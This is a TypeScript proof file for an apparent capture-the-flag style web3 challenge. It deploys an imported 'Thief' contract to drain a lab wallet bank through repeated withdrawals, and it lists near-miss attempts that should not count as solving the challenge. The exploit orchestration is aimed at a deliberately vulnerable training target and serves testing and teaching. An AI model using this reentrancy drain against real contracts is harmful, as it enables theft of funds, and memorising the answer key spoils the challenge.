import { ChainPlayer } from '@fruit/challenge-kit/chain-player'
import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { CONTRACTS } from '@fruit/isomorphic/web3/contracts'
import { challenge } from './challenge.ts'
import { file } from './thief.sol'

const BANK = CONTRACTS.walletBank.address
const LIMIT = 10n ** 17n

const name = (attacker: Attacker, walletAddress: string) =>
  attacker.post('/rest/web3/walletExploitAddress', { walletAddress })

/** Deploys the attacking contract and starts it. @param again number of withdrawals beyond the allowed one */
async function steal(player: ChainPlayer, again: bigint): Promise<void> {
  const thief = await player.deploy(file.contracts.Thief!.creation, LIMIT)
  await player.send(thief, 'steal(uint256)', [again])
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const player = await ChainPlayer.withEther(attacker)
    await name(attacker, player.address)
    await steal(player, 4n)
  },
  nearMisses: {
    'a deposit that is withdrawn again': async (attacker) => {
      const player = await ChainPlayer.withEther(attacker)
      await name(attacker, player.address)
      await player.send(BANK, 'ethdeposit(address)', [player.address], 2n * LIMIT)
      await player.send(BANK, 'withdraw(uint256)', [LIMIT])
      await player.send(BANK, 'withdraw(uint256)', [LIMIT])
      await player.send(BANK, 'withdraw(uint256)', [LIMIT])
    },
    'what a friend has brought is withdrawn': async (attacker) => {
      const [player, friend] = [await ChainPlayer.withEther(attacker), await ChainPlayer.withEther(attacker)]
      await name(attacker, player.address)
      await friend.send(BANK, 'ethdeposit(address)', [player.address], LIMIT)
      await player.send(BANK, 'withdraw(uint256)', [LIMIT])
    },
    'a contract that withdraws what it brought': async (attacker) => {
      const player = await ChainPlayer.withEther(attacker)
      await name(attacker, player.address)
      await steal(player, 0n)
    },
    'a theft by an account that nobody named': async (attacker) => {
      await name(attacker, new ChainPlayer(attacker).address)
      await steal(await ChainPlayer.withEther(attacker), 4n)
    },
    'the contract is named instead of who sent it': async (attacker) => {
      const player = await ChainPlayer.withEther(attacker)
      const thief = await player.deploy(file.contracts.Thief!.creation, LIMIT)
      await name(attacker, thief)
      await player.send(thief, 'steal(uint256)', [4n])
    },
    'more than 0.1 ether at once': async (attacker) => {
      const player = await ChainPlayer.withEther(attacker)
      await name(attacker, player.address)
      await player.send(BANK, 'ethdeposit(address)', [player.address], LIMIT)
      await player.send(BANK, 'withdraw(uint256)', [2n * LIMIT])
    },
    'naming an account, the bank and nonsense': async (attacker) => {
      await name(attacker, new ChainPlayer(attacker).address)
      await name(attacker, BANK)
      await name(attacker, 'everybody')
      await attacker.post('/rest/web3/walletExploitAddress', {})
    },
  },
})
